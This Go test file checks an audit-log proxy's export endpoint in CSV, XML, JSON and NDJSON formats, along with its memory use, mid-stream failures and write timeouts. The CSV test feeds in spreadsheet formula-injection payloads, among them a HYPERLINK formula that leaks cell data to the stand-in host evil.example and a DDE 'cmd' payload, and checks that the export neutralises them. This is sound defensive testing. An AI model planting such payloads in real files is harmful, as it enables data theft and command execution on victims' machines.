package api

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditproxy/auditproxy/event"
	"github.com/auditproxy/auditproxy/event/eventtest"
	"github.com/auditproxy/auditproxy/store"
)

func TestExportHeaders(t *testing.T) {
	h := newHarness(t, nil)
	for format, ct := range map[string]string{
		"json": "application/json", "ndjson": "application/x-ndjson", "csv": "text/csv; charset=utf-8", "xml": "application/xml",
	} {
		w := h.do(t, "GET", "/api/v1/export?format="+format, adminToken)
		if w.Code != 200 || w.Header().Get("Content-Type") != ct {
			t.Errorf("%s: status %d, Content-Type %q, want 200 %q", format, w.Code, w.Header().Get("Content-Type"), ct)
		}
		want := `attachment; filename="auditlog-20260310-120000.` + format + `"`
		if cd := w.Header().Get("Content-Disposition"); cd != want {
			t.Errorf("%s: Content-Disposition %q, want %q", format, cd, want)
		}
	}
	w := h.do(t, "GET", "/api/v1/export?format=pdf", adminToken)
	if w.Code != 400 || !strings.HasPrefix(errorOf(t, w), "format:") {
		t.Errorf("format=pdf: %d %s", w.Code, w.Body)
	}
	if w := h.do(t, "GET", "/api/v1/export?format=csv", ""); w.Code != 401 {
		t.Errorf("export without token: %d", w.Code)
	}
}

func TestExportCSV(t *testing.T) {
	evs := fixture()
	evs[0].Description = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	evs[0].Actor.Name = "+alice"
	evs[1].Target = event.Target{Type: "user", ID: "-1", Name: "@everyone"}
	evs[1].Source.UserAgent = "\tcurl"
	evs[2].Description = "\rcmd|' /C calc'!A0"
	evs[3].Description = "a, \"quoted\"\nmulti-line description"
	h := newHarness(t, nil, evs...)
	w := h.do(t, "GET", "/api/v1/export?format=csv", adminToken)
	rows, err := csv.NewReader(w.Body).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, w.Body)
	}
	if !slices.Equal(rows[0], csvColumns) {
		t.Errorf("header %v", rows[0])
	}
	if len(rows) != 1+len(evs) {
		t.Fatalf("%d rows, want %d", len(rows), 1+len(evs))
	}
	col := func(row int, name string) string { return rows[row][slices.Index(csvColumns, name)] }
	for _, tc := range []struct {
		row        int
		col, value string
	}{
		{1, "description", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{1, "actor_name", "'+alice"},
		{1, "actor_id", "42"},
		{1, "time", "2026-03-10T11:00:00.000000Z"},
		{1, "id", "ev-1"},
		{1, "target_name", "bob@example.com"},
		{2, "target_id", "'-1"},
		{2, "target_name", "'@everyone"},
		{2, "user_agent", "'\tcurl"},
		{2, "ip", "10.0.0.7"},
		{2, "country", "US"},
		{3, "description", "'\rcmd|' /C calc'!A0"},
		{3, "ip", "2001:db8::1"},
		{4, "description", "a, \"quoted\"\nmulti-line description"},
		{4, "outcome", "failure"},
		{4, "rule", "r-auth"},
	} {
		if got := col(tc.row, tc.col); got != tc.value {
			t.Errorf("row %d %s = %q, want %q", tc.row, tc.col, got, tc.value)
		}
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
				t.Errorf("%s cell %q starts a formula", csvColumns[i], cell)
			}
		}
	}
}

// nastyEvent has everything XML and JSON writers trip over.
func nastyEvent() event.Event {
	ev := eventtest.Full()
	ev.ID = "ev-nasty"
	ev.Time = testNow.Add(-time.Minute)
	ev.Description = "<b>\"a\" & 'b'</b> ]]> \x00\x1b nul and escape, bad utf-8: \xff\xfe, fine: é 😀"
	ev.Actor.Name = "x\"><evil attr='1'"
	ev.Source.UserAgent = "line1\nline2\ttab"
	ev.Changes = append(ev.Changes, event.Change{Field: "note", From: json.RawMessage(`"a\nb"`), To: json.RawMessage("{\n  \"x\": \"<y>\"\n}")})
	return ev
}

func TestExportXML(t *testing.T) {
	evs := append(fixture(), nastyEvent(), eventtest.Minimal())
	h := newHarness(t, nil, evs...)
	w := h.do(t, "GET", "/api/v1/export?format=xml", adminToken)
	body := w.Body.Bytes()
	if !bytes.HasPrefix(body, []byte(xml.Header)) {
		t.Errorf("no XML declaration: %.80s", body)
	}
	// Well-formed: a strict decoder reads every token to the end.
	dec := xml.NewDecoder(bytes.NewReader(body))
	for {
		_, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("not well-formed: %v\n%s", err, body)
		}
	}
	var doc struct {
		XMLName xml.Name   `xml:"events"`
		Events  []xmlEvent `xml:"event"`
	}
	if err := xml.Unmarshal(body, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Events) != len(evs) {
		t.Fatalf("%d events decoded, want %d", len(doc.Events), len(evs))
	}
	byID := map[string]xmlEvent{}
	for _, x := range doc.Events {
		byID[x.ID] = x
	}
	n := byID["ev-nasty"]
	if want := "<b>\"a\" & 'b'</b> ]]> \uFFFD\uFFFD nul and escape, bad utf-8: \uFFFD\uFFFD, fine: é 😀"; n.Description != want {
		t.Errorf("description decoded as %q, want %q", n.Description, want)
	}
	if n.Actor == nil || n.Actor.Name != "x\"><evil attr='1'" || !slices.Equal(n.Actor.Roles, []string{"admin", "ops"}) {
		t.Errorf("actor %+v", n.Actor)
	}
	if n.Source.UserAgent != "line1\nline2\ttab" {
		t.Errorf("user agent attribute decoded as %q", n.Source.UserAgent)
	}
	if n.HTTP.Status != 201 || n.HTTP.DurationMS != "12.345678" || n.Time != "2026-03-10T11:59:00.000000Z" {
		t.Errorf("http %+v, time %s", n.HTTP, n.Time)
	}
	if len(n.Changes) != 5 || n.Changes[0].From != nil || *n.Changes[0].To != `"bob@example.com"` || *n.Changes[1].From != `"viewer"` {
		t.Errorf("changes %+v", n.Changes)
	}
	if m := byID[eventtest.Minimal().ID]; m.Actor != nil || m.Target != nil || m.Changes != nil || m.Outcome != "failure" {
		t.Errorf("minimal event decoded as %+v", m)
	}
	// An empty export is still a document.
	w = h.do(t, "GET", "/api/v1/export?format=xml&actor=nobody", adminToken)
	doc.Events = nil
	if err := xml.Unmarshal(w.Body.Bytes(), &doc); err != nil || len(doc.Events) != 0 {
		t.Errorf("empty export: %v %s", err, w.Body)
	}
}

func TestExportJSONAndNDJSON(t *testing.T) {
	evs := append(fixture(), nastyEvent())
	h := newHarness(t, nil, evs...)
	wantIDs := []string{"ev-nasty", "ev-1", "ev-2", "ev-3", "ev-4", "ev-5", "ev-6"}

	w := h.do(t, "GET", "/api/v1/export?format=json", adminToken)
	var arr []event.Event
	if err := json.Unmarshal(w.Body.Bytes(), &arr); err != nil {
		t.Fatalf("json export is not a JSON array: %v\n%s", err, w.Body)
	}
	if got := idsOf(arr); !slices.Equal(got, wantIDs) {
		t.Errorf("json export ids %v, want %v", got, wantIDs)
	}

	w = h.do(t, "GET", "/api/v1/export?format=ndjson", aliceToken)
	var got []string
	sc := bufio.NewScanner(w.Body)
	for sc.Scan() {
		var ev event.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("ndjson line %q: %v", sc.Text(), err)
		}
		// Each line is the native JSON, as every sink writes it.
		if want := string(h.api.native.Append(nil, &ev)); sc.Text() != want {
			t.Errorf("line\n%s\nis not the native JSON\n%s", sc.Text(), want)
		}
		got = append(got, ev.ID)
	}
	if want := []string{"ev-1", "ev-3", "ev-6"}; !slices.Equal(got, want) {
		t.Errorf("alice's ndjson export %v, want %v", got, want)
	}

	w = h.do(t, "GET", "/api/v1/export?format=json&actor=nobody", adminToken)
	if w.Body.String() != "[]\n" {
		t.Errorf("empty json export %q", w.Body)
	}
	w = h.do(t, "GET", "/api/v1/export", adminToken)
	if !json.Valid(w.Body.Bytes()) || w.Header().Get("Content-Type") != "application/json" {
		t.Errorf("export without format is not json")
	}
}

func idsOf(evs []event.Event) []string {
	var out []string
	for _, ev := range evs {
		out = append(out, ev.ID)
	}
	return out
}

// discardWriter is a ResponseWriter that counts and forgets, and can flush.
type discardWriter struct {
	hdr     http.Header
	n       int64
	flushes int
}

func (d *discardWriter) Header() http.Header         { return d.hdr }
func (d *discardWriter) WriteHeader(int)             {}
func (d *discardWriter) Write(p []byte) (int, error) { d.n += int64(len(p)); return len(p), nil }
func (d *discardWriter) Flush()                      { d.flushes++ }

func TestExportMemoryIsFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("exports 200,000 events per format")
	}
	h := newHarness(t, nil, []event.Event{}...)
	var ms runtime.MemStats
	pad := strings.Repeat("x", 2000)
	for _, format := range []string{"csv", "ndjson", "xml", "json"} {
		total := 200_000
		if raceEnabled && format != "csv" {
			total = 40_000 // the race detector slows the JSON and XML encoders fifteenfold
		}
		runtime.GC()
		runtime.ReadMemStats(&ms)
		base, peak := ms.HeapAlloc, ms.HeapAlloc
		// The store makes each event as it goes, as a database cursor would.
		h.store.each = func(ctx context.Context, f store.Filter, fn func(*event.Event) error) error {
			ev := eventtest.Full()
			for i := range total {
				ev.ID = fmt.Sprintf("ev-%07d", i)
				ev.Time = testNow.Add(-time.Duration(i) * time.Second)
				ev.Description = "=alice changed " + pad[:500+i%1500]
				if err := fn(&ev); err != nil {
					return err
				}
				if i%(total/20) == 0 {
					runtime.ReadMemStats(&ms)
					peak = max(peak, ms.HeapAlloc)
				}
			}
			return nil
		}
		w := &discardWriter{hdr: http.Header{}}
		r := httptest.NewRequest("GET", "/api/v1/export?format="+format, nil)
		r.Header.Set("Authorization", "Bearer "+adminToken)
		h.mux.ServeHTTP(w, r)
		// Every event is over a kilobyte: holding the export in memory would
		// take 60 MB or more. Generous bound: 32 MB above the start.
		grown := int64(peak) - int64(base)
		if grown > 32<<20 {
			t.Errorf("%s: heap grew by %d MB during the export", format, grown>>20)
		}
		if w.n < int64(total)*1000 {
			t.Errorf("%s: only %d bytes written", format, w.n)
		}
		if w.flushes < total/flushEvery {
			t.Errorf("%s: %d flushes, want at least %d", format, w.flushes, total/flushEvery)
		}
		t.Logf("%s: %d events, %d MB exported, heap peak %d MB above start", format, total, w.n>>20, grown>>20)
		recs := h.records()
		if want := fmt.Sprintf("exported %d events as %s", total, format); !strings.Contains(recs[len(recs)-1].Description, want) {
			t.Errorf("recorded %q, want it to say %q", recs[len(recs)-1].Description, want)
		}
	}
}

func TestExportStoreFails(t *testing.T) {
	h := newHarness(t, nil)
	srv := httptest.NewServer(h.mux)
	defer srv.Close()
	get := func() (*http.Response, error) {
		req, _ := http.NewRequest("GET", srv.URL+"/api/v1/export?format=ndjson", nil)
		req.Header.Set("Authorization", "Bearer "+adminToken)
		return srv.Client().Do(req)
	}

	// Failing before anything was sent: a proper 500.
	h.store.each = func(context.Context, store.Filter, func(*event.Event) error) error { return errors.New("disk on fire") }
	resp, err := get()
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 500 || resp.Header.Get("Content-Disposition") != "" || !strings.Contains(string(body), `"error"`) || strings.Contains(string(body), "fire") {
		t.Errorf("early failure: %d %q %s", resp.StatusCode, resp.Header.Get("Content-Disposition"), body)
	}

	// Failing half way: the client must see a broken transfer, never a
	// complete-looking file.
	h.store.each = func(ctx context.Context, f store.Filter, fn func(*event.Event) error) error {
		ev := eventtest.Full()
		for range 5000 {
			if err := fn(&ev); err != nil {
				return err
			}
		}
		return errors.New("disk on fire")
	}
	resp, err = get()
	if err != nil {
		t.Fatal(err)
	}
	_, err = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || err == nil {
		t.Errorf("failure half way: status %d, read error %v; want 200 and a broken body", resp.StatusCode, err)
	}
	recs := h.records()
	if len(recs) != 2 || recs[1].Outcome != event.OutcomeFailure || !strings.Contains(recs[1].Description, "broke off after 5000 events") {
		t.Errorf("records %+v", recs)
	}
}

// TestExportOutlivesWriteTimeout exports slowly behind a write timeout
// shorter than the export, as the admin listener has.
func TestExportOutlivesWriteTimeout(t *testing.T) {
	h := newHarness(t, nil)
	h.store.each = func(ctx context.Context, f store.Filter, fn func(*event.Event) error) error {
		for _, ev := range fixture() {
			time.Sleep(100 * time.Millisecond)
			if err := fn(&ev); err != nil {
				return err
			}
		}
		return nil
	}
	srv := httptest.NewUnstartedServer(h.mux)
	srv.Config.WriteTimeout = 200 * time.Millisecond
	srv.Start()
	defer srv.Close()
	req, _ := http.NewRequest("GET", srv.URL+"/api/v1/export?format=ndjson", nil)
	req.Header.Set("Authorization", "Bearer "+adminToken)
	resp, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil || strings.Count(string(body), "\n") != 6 {
		t.Errorf("read %d lines, error %v", strings.Count(string(body), "\n"), err)
	}
}
